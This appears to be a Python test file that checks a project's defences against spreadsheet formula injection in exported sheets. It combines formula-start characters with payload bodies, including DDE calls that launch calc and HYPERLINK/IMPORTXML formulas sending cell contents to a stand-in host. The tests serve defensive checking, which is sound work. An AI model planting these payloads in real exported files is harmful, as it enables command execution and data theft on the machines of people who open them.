"""V-33: a hundred texts that a spreadsheet could take for a formula, in every sheet that leaves the house."""

from collections.abc import Callable
from io import BytesIO
from itertools import product

import pytest
from openpyxl import Workbook, load_workbook

from motcua.desk.procedures.as_xlsx import escaped, plain
from motcua.web.office.exporting import safe_cell

_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "＝",
    "＋",
    "－",
    "＠",
    "\t@",
    "\n+",
    "=\t",
    "+-",
    "@@",
    "-+",
)
_BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://nguoi-la.example/?x="&A1,"Xem")',
    "SUM(A1:A9)",
    'DDE("cmd";"/C calc";"x")',
    'IMPORTXML("http://nguoi-la.example/",A2)',
)
PAYLOADS = [start + body for start, body in product(_STARTS, _BODIES)]


def kept_in_a_sheet(cells: list[str]) -> list[tuple[str, str]]:
    """What a spreadsheet program finds: the type of each cell and its text."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet("Thử")
    for cell in cells:
        sheet.append([cell])
    written = BytesIO()
    book.save(written)
    read = load_workbook(BytesIO(written.getvalue()), data_only=False)["Thử"]
    return [(cell.data_type, str(cell.value)) for (cell,) in read.iter_rows()]


def test_there_are_a_hundred_and_unescaped_they_would_run() -> None:
    assert len(set(PAYLOADS)) >= 100
    assert ("f", "=1+1") in kept_in_a_sheet(["=1+1"])


@pytest.mark.parametrize("escape", [safe_cell, escaped], ids=["accounts and register", "catalogue"])
def test_no_cell_of_a_list_that_leaves_the_house_is_evaluated(escape: Callable[[str], str]) -> None:
    found = kept_in_a_sheet([escape(payload) for payload in PAYLOADS])
    assert len(found) == len(PAYLOADS)
    for kind, text in found:
        assert kind == "s", text
        assert text.startswith("'"), text


@pytest.mark.parametrize("escape", [safe_cell, escaped], ids=["accounts and register", "catalogue"])
def test_ordinary_names_stay_as_they_are(escape: Callable[[str], str]) -> None:
    for name in ("Nguyễn Thị Mẫu", "H'Hen Niê", "Trường THPT A - B", "1.005092", "a=b", ""):
        assert escape(name) == name


def test_what_the_catalogue_escaped_comes_back_as_it_was() -> None:
    assert [plain(escaped(payload)) for payload in PAYLOADS] == PAYLOADS
